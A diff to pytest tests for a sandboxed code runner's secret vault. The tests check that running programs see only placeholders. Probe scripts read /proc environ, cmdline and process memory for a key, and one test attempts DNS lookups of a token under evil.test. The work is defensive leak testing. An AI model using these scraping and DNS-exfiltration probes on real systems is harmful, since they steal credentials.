@@ -33,7 +33,7 @@ from tests.contract.programs_with_secrets import (
     S,
 )
 
-from casemate import Done, Event, Execution, InvalidArgument, Limits, Output, sync
+from casemate import Done, Event, Execution, Inject, InvalidArgument, Limits, Output, sync
 from casemate.audit.log import AuditLog
 
 
@@ -271,20 +271,96 @@ def _read(path: str) -> bytes:
         return b""
 
 
-@pytest.mark.skip(reason="waits for injection at the door, which puts a secret into a request")
-def test_va_15_a_placeholder_becomes_the_secret_for_its_host_and_header_only() -> None:
-    pass
+SEARCH = {  # its memory, its environment, and what /proc shows of all that it can see
+    "python": """import os, glob, re
+print(os.environ["KEY"])
+data = b""
+for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
+    try:
+        data += open(path, "rb").read(1 << 20)
+    except OSError:
+        pass
+with open("/proc/self/mem", "rb", 0) as memory:
+    for line in open("/proc/self/maps"):
+        begin, end = (int(place, 16) for place in line.split()[0].split("-"))
+        if "rw-p" in line and end - begin < 1 << 26:
+            try:
+                memory.seek(begin)
+                data += memory.read(end - begin)
+            except (OSError, ValueError):
+                pass
+print(re.search(b"-Real[K]ey-", data) is not None, os.environ["KEY"].encode() in data)
+""",
+    "node": """const fs = require("fs");
+console.log(process.env.KEY);
+let data = JSON.stringify(process.env);
+for (const file of ["environ", "cmdline"]) data += fs.readFileSync("/proc/self/" + file);
+console.log(/-Real[K]ey-/.test(data) ? "True" : "False", data.includes(process.env.KEY) ? "True" : "False");
+""",
+    "shell": """echo $KEY
+grep -q -a -e '-Real[K]ey-' /proc/self/environ && echo -n "True " || echo -n "False "
+grep -q -a -e $KEY /proc/self/environ && echo True || echo False
+""",
+}
+KEY = "sk-abcdef-RealKey-0123456789"
 
 
-def test_va_16_the_network_door_tells_of_no_secret(wall: str, tmp_path: Path) -> None:
+def test_va_15_a_program_has_a_placeholder_and_never_the_secret(sandbox: sync.Sandbox, language: str) -> None:
+    sandbox.vault.set("KEY", KEY, inject=Inject(["api.good.test"]))
+    told = []
+    for _ in range(2):
+        execution = sandbox.run(SEARCH[language], language=language, secrets=["KEY"])
+        placeholder, found = execution.stdout.splitlines()
+        assert len(placeholder) == len(KEY)
+        assert placeholder.startswith("sk-")
+        assert found == "False True", execution.stderr
+        assert KEY not in everything(execution) + json.dumps(rows(sandbox, execution))
+        told.append(placeholder)
+    assert told[0] != told[1]
+    plan = sandbox.explain("1", secrets=["KEY"])
+    assert plan.secrets.names == ("KEY",)
+    assert KEY not in plan.secrets.revealed().values()
+
+
+def test_va_15_the_secret_itself_is_still_hidden_where_somebody_else_has_said_it(sandbox: sync.Sandbox) -> None:
+    sandbox.vault.set("KEY", KEY, inject=Inject(["api.good.test"]))
+    execution = sandbox.run(f"print({KEY!r}); raise ValueError({KEY!r})", secrets=["KEY"])
+    assert execution.stdout == "[secret:KEY]\n"
+    assert KEY not in everything(execution) + json.dumps(rows(sandbox, execution))
+
+
+def test_va_15_a_session_has_one_placeholder_as_long_as_it_lives(sandbox: sync.Sandbox) -> None:
+    sandbox.vault.set("KEY", KEY, inject=Inject(["api.good.test"]))
+    with sandbox.session(secrets=["KEY"]) as session, sandbox.session(secrets=["KEY"]) as other:
+        mine = {session.run("import os; print(os.environ['KEY'])").stdout for _ in range(2)}
+        mine.add(session.run("import subprocess as s; print(s.getoutput('echo $KEY'))").stdout)
+        assert len(mine) == 1
+        assert other.run("import os; print(os.environ['KEY'])").stdout not in mine
+        assert session.run(f"print({KEY!r})").stdout == "[secret:KEY]\n"
+
+
+def test_va_17_a_secret_that_is_deleted_or_changed_is_not_put_in_for_new_runs(sandbox: sync.Sandbox) -> None:
+    sandbox.vault.set("KEY", KEY, inject=Inject(["api.good.test"]))
+    with sandbox.session(secrets=["KEY"]) as session:
+        before = session.run("import os; print(os.environ['KEY'])").stdout
+        sandbox.vault.delete("KEY")
+        with pytest.raises(InvalidArgument, match="no secret"):
+            sandbox.run("1", secrets=["KEY"])
+        assert session.run(f"print({KEY!r}, os.environ['KEY'])").stdout == f"[secret:KEY] {before}"
+        sandbox.vault.set("KEY", "a-new-value-of-its")
+        assert sandbox.run("import os; print(os.environ['KEY'])", secrets=["KEY"]).stdout == "[secret:KEY]\n"
+
+
+@pytest.mark.parametrize("inject", [None, Inject(["api.good.test"])], ids=["inside", "outside"])
+def test_va_16_the_network_door_tells_of_no_secret(wall: str, tmp_path: Path, inject: Inject | None) -> None:
     value = "Gh0-SecretToken-42"
     code = (
-        "import os, socket\nt = os.environ['HOST_TOKEN']\nfor name in (t + '.evil.test', 'x.' + t.lower()):\n"
+        f"import os, socket\nt = {value!r}\nfor name in (t + '.evil.test', 'x.' + t.lower()):\n"
         "    try: socket.getaddrinfo(name, 443)\n    except OSError: print('refused')"
     )
     allowed = ["good.test", f"{value}.good.test"]
     with sync.Sandbox(isolation=wall, audit=tmp_path / "audit.db", allowed_domains=allowed) as one:
-        one.vault.set("HOST_TOKEN", value)
+        one.vault.set("HOST_TOKEN", value, inject=inject)
         execution = one.run(code, secrets=["HOST_TOKEN"])
         told = repr(execution) + json.dumps(rows(one, execution))
     assert execution.stdout == "refused\n" * 2
